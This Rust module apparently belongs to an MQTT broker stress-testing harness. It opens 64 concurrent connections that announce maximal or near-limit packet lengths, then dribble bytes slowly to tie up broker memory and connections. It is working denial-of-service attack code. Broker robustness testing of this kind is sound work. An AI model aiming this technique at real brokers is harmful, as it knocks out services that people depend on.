//! Lengths that promise much: as long as MQTT can say, and just within the limits.

use std::time::Duration;

use dockside_mqtt::Version;
use docksim::random::Random;
use tokio::time::sleep;

use crate::attack::Attack;
use crate::damage::remaining_length;
use crate::link::Link;
use crate::packets::connect;
use crate::referee::settings::{CONNECT_PACKET_BYTES, PACKET_BYTES};

/// Connections at once; a quarter of them hold a whole packet but for one byte.
pub(crate) const LANES: u64 = 64;

/// The longest that MQTT can say.
const LONGEST: u32 = 268_435_455;

/// Pause between bytes, and their number.
const DRIBBLE: Duration = Duration::from_millis(100);
const DRIBBLES: u32 = 15;

pub(crate) async fn run(attack: &Attack) {
    attack.lanes(LANES, promise).await;
}

async fn promise(attack: Attack, mut random: Random, number: u64) {
    let client_id = format!("hostile-length-{number}");
    let is_client = number % 4 >= 2;
    loop {
        let link = if is_client {
            Link::client(&attack, connect(Version::V311, &client_id, true)).await
        } else {
            Link::open(&attack).await
        };
        let Ok(mut link) = link else { continue };
        let (first, length) = match number % 4 {
            0 => (0x10, LONGEST),
            1 => (0x10, CONNECT_PACKET_BYTES - 5),
            2 => (random.pick(&[0x30, 0x82, 0xA2, 0x40]), LONGEST),
            _ => (0x30, PACKET_BYTES - 5),
        };
        attack.sent(1);
        // The broker closes, and the next connection is made.
        let _ = keep_promising(&attack, &mut link, first, length).await;
    }
}

async fn keep_promising(
    attack: &Attack,
    link: &mut Link,
    first: u8,
    length: u32,
) -> std::io::Result<()> {
    let mut begin = vec![first];
    begin.extend(remaining_length(length));
    // A topic of the length that the rest could have, or a protocol name.
    begin.extend_from_slice(if first == 0x10 { b"\0\x04MQTT\x04\x02\0\x3C" } else { b"\x00\x01a" });
    link.send(&begin).await?;
    if length != LONGEST {
        let mut left = length as usize - 16;
        let part = vec![b'x'; 32 << 10];
        while left > 0 {
            let sent = part.len().min(left);
            link.send(&part[..sent]).await?;
            left -= sent;
            attack.pace.breathe().await;
        }
    }
    for _ in 0..DRIBBLES {
        sleep(DRIBBLE).await;
        if length == LONGEST {
            link.send(b"x").await?;
        }
    }
    Ok(())
}
